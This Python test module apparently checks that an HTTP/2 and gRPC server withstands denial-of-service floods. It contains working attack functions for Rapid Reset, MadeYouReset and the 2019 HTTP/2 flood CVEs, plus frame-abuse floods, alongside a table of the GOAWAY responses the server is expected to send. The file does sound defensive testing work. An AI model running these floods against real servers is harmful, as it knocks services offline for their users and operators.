"""Attacks that cost by their number.

Each takes the server and returns what the attacker got; EXPECTED says what that must begin with.
"""

import struct

from attacker import PRIORITY, PRIORITY_UPDATE, WINDOW_UPDATE, Attacker, literal, request
from grpc_call import envelope
from raw_http2 import ACK, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, frame

CALM = "GOAWAY ENHANCE_YOUR_CALM"
HOLD = "/weir.interop.Features/Hold"
CANCEL = struct.pack(">I", 8)
MOST = struct.pack(">I", 2**31 - 1)


def flood(server, frames, first=b"", **options):
    """The same frame for as long as the server takes it."""
    attacker = Attacker(server, **options)
    attacker.send(first)
    for part in frames:
        if not attacker.send(part):
            break
    end = attacker.wait_for_end(2 if attacker.stuck else 20)
    attacker.close()
    return end


def streams(count, one):
    """one(id) for each id, some of them in one write."""
    ids = range(1, 2 * count, 2)
    for i in range(0, count, 50):
        yield b"".join(one(stream) for stream in ids[i:i + 50])


def rapid_reset(server):
    """CVE-2023-44487: calls that are cancelled as soon as they are made."""
    block = request()
    return flood(server, streams(20_000, lambda stream: frame(HEADERS, END_HEADERS, stream, block) +
                                 frame(RST_STREAM, 0, stream, CANCEL)))


def made_you_reset(server):
    """CVE-2025-8671: the server itself is made to reset, by a window that overflows."""
    block = request(HOLD)
    return flood(server, streams(20_000, lambda stream: frame(HEADERS, END_HEADERS, stream, block) +
                                 frame(WINDOW_UPDATE, 0, stream, MOST)))


def made_you_reset_by_trailers(server):
    """CVE-2025-8671, by trailers that are malformed."""
    head, trailers = request(HOLD), literal(":path", "/")
    return flood(server, streams(20_000, lambda stream: frame(HEADERS, END_HEADERS, stream, head) +
                                 frame(HEADERS, END_HEADERS | END_STREAM, stream, trailers)))


def made_you_reset_by_length(server):
    """CVE-2025-8671, by a body that is longer than its content-length."""
    block = request(HOLD, content_length="1")
    return flood(server, streams(20_000, lambda stream: frame(HEADERS, END_HEADERS, stream, block) +
                                 frame(DATA, 0, stream, bytes(10))))


def reset_flood(server):
    """CVE-2019-9514: malformed requests, and nothing of the answers is read."""
    block = request(te="gzip")
    attacker = Attacker(server, acknowledge=False, read=False)
    for part in streams(200_000, lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, block)):
        if not attacker.send(part, 3):
            break
    end = attacker.wait_for_end(3)
    attacker.close()
    return end


def settings_flood(server):
    """CVE-2019-9515"""
    return flood(server, [frame(SETTINGS, 0, 0) * 100] * 1000)


def ping_flood(server):
    """CVE-2019-9512"""
    attacker, sent = Attacker(server), 0
    for _ in range(1000):
        if not attacker.send(frame(PING, 0, 0, bytes(8)) * 20):
            break
        sent += 20
        attacker.read_until(lambda: attacker.ping_acks >= sent)  # pylint: disable=cell-var-from-loop
    end = attacker.wait_for_end()
    attacker.close()
    return end


def unread_ping_flood(server):
    """CVE-2019-9512, and nothing of the answers is read."""
    attacker = Attacker(server, read=False)
    while attacker.sent < 32 << 20 and attacker.send(frame(PING, 0, 0, bytes(8)) * 1000, 3):
        pass
    end = attacker.wait_for_end(3)
    attacker.close()
    return end


def empty_data(server):
    """CVE-2019-9518"""
    return flood(server, [frame(DATA, 0, 1) * 100] * 1000, frame(HEADERS, END_HEADERS, 1, request(HOLD)))


def one_octet_data(server):
    """Frames that cost as much as full ones."""
    body = envelope(bytes(200_000))
    frames = [b"".join(frame(DATA, 0, 1, body[i:i + 1]) for i in range(k, k + 500)) for k in range(0, 200_000, 500)]
    block = request("/grpc.testing.TestService/StreamingInputCall")
    return flood(server, frames, frame(HEADERS, END_HEADERS, 1, block))


def priority_flood(server):
    """CVE-2019-9513"""
    return flood(server, [frame(PRIORITY, 0, 1, struct.pack(">IB", 3, 7)) * 100] * 1000)


def priority_update_flood(server):
    """RFC 9218, for streams that there are not."""
    return flood(server, [frame(PRIORITY_UPDATE, 0, 0, struct.pack(">I", 3) + b"u=1") * 100] * 1000)


def window_update_flood(server):
    """CVE-2019-9511 and CVE-2019-9517 begin like this."""
    return flood(server, [frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 100] * 1000)


def unknown_frames(server):
    return flood(server, [frame(0xbe, 0, 0, bytes(16)) * 100] * 1000)


def unasked_ping_acks(server):
    return flood(server, [frame(PING, ACK, 0, bytes(8)) * 100] * 1000)


def data_on_closed_streams(server):
    """After a reset of its own a client may send no more there."""
    block = request(HOLD)
    first = frame(HEADERS, END_HEADERS, 1, block) + frame(RST_STREAM, 0, 1, CANCEL)
    return flood(server, [frame(DATA, 0, 1, b"x") * 100] * 1000, first)


def headers_on_closed_streams(server):
    """What has ended is opened again and again."""
    block = request(HOLD)
    first = frame(HEADERS, END_HEADERS, 1, block) + frame(RST_STREAM, 0, 1, CANCEL)
    return flood(server, [frame(HEADERS, END_HEADERS, 1, block) * 100] * 1000, first)


def connection_churn(server):
    """Two thousand connections that say nothing."""
    for _ in range(2000):
        Attacker(server, preface=b"").close()
    return "open"


EXPECTED = {
    rapid_reset: CALM + " too_many_resets",
    made_you_reset: CALM,
    made_you_reset_by_trailers: CALM,
    made_you_reset_by_length: CALM,
    reset_flood: (CALM, "closed"),  # which of them, is whether it could still be written
    settings_flood: CALM,
    ping_flood: CALM + " too_many_pings",
    unread_ping_flood: (CALM, "closed"),
    empty_data: CALM,
    one_octet_data: CALM,
    priority_flood: CALM,
    priority_update_flood: CALM,
    window_update_flood: CALM,
    unknown_frames: CALM,
    unasked_ping_acks: CALM,
    data_on_closed_streams: CALM,
    headers_on_closed_streams: CALM,
    connection_churn: "open",
}
